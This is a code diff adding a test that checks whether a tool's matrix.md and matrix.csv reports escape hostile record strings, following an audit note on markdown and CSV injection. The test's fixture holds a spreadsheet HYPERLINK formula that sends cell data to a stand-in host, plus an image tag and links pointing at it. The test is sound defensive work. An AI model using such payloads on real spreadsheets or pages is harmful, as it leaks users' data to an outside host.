@@ -167,3 +167,27 @@ def test_docs_show_every_matrix_yaml_key() -> None:
         keys |= set(schema["$defs"][name]["properties"])
     missing = sorted(k for k in keys if f"{k}:" not in docs)
     assert missing == []
+
+
+def test_a_records_strings_are_escaped_in_every_matrix_output(tmp_path: Path) -> None:
+    # 2026-12-04 audit: matrix.md wrote a record's torch version, verdict and pipeline id as they were (only "|"
+    # escaped): HTML, an image that loads a remote URL when the page renders, links and @all; matrix.csv wrote a
+    # cell starting with "=", which a spreadsheet runs as a formula (HYPERLINK sends other cells away).
+    from gatekeeper.history import open_store
+
+    hostile = '=HYPERLINK("https://evil.invalid/?"&B2,"x") <img src=https://evil.invalid/p.png> [l](https://evil.invalid) @all'
+    store = open_store(f"sqlite:{tmp_path / 'h.db'}", create=True)
+    for r in pipeline(environment(torch=hostile), started_at=day(1)):
+        store.save(r, RunInfo("main", "+c", "-1](https://evil.invalid)", "@all", r.started_at))
+    write_matrix(history=f"sqlite:{tmp_path / 'h.db'}", matrix_file=ROOT / "matrix.yaml", out=tmp_path, today=TODAY)
+    md = (tmp_path / "matrix.md").read_text(encoding="utf-8")
+    assert "<img" not in md, md
+    assert "](https://evil.invalid" not in md, md
+    assert not re.search(r"@all", md), md  # a mention is broken by a zero-width space
+    assert "&lt;img" in md
+    assert "\\[l\\]" in md
+    cells = [c for row in csv.reader(io.StringIO((tmp_path / "matrix.csv").read_text(encoding="utf-8"))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'" + hostile in cells
+    assert "'@all" in cells
+    assert "'-1](https://evil.invalid)" in cells
